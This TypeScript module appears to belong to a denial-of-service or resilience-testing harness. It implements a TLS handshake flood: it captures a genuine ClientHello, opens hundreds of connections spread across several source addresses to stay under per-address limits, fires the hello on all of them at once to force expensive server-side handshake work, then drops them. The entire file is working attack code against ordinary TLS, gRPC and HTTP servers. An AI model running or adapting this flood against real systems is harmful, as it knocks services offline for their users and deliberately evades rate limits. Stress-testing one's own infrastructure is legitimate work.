import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import { connect } from 'node:tls';
import { repeatInParallel, sleep, type Attack } from './attack.ts';
import { addressOf, isOpened, open } from './connection.ts';

/** Connections of each address: below the limit of an address. */
const perAddress = 200;

/** The first message of a TLS handshake; a server does its expensive part when it arrives. */
async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (typeof address !== 'object' || address === null) throw new Error('the server does not listen');
  const to = { port: address.port, host: '127.0.0.1', ALPNProtocols: ['h2', 'http/1.1'] };
  const client = connect(to).on('error', () => undefined);
  const socket = await new Promise<Socket>((resolve) => server.once('connection', resolve));
  const hello = await new Promise<Buffer>((resolve) => socket.once('data', resolve));
  client.destroy();
  socket.destroy();
  server.close();
  return hello;
}

/** Handshakes over many open connections that all begin at once, and go no further. */
export async function simultaneousHellos(attack: Attack): Promise<void> {
  const { target, counter } = attack;
  const hello = await clientHello();
  await repeatInParallel(attack, 1, async (_, turn) => {
    const port = turn % 2 === 0 ? target.ports.grpc : target.ports.http;
    const sockets = Array.from({ length: 4 * perAddress }, (_each, number) =>
      open({ port, from: addressOf(number % 4) }),
    );
    await Promise.all(sockets.map((socket) => isOpened(socket, 'connect')));
    await sleep(attack, 500);
    for (const socket of sockets) socket.write(hello);
    counter.add('hellos', sockets.length);
    await sleep(attack, 1_500);
    for (const socket of sockets) socket.destroy();
  });
}
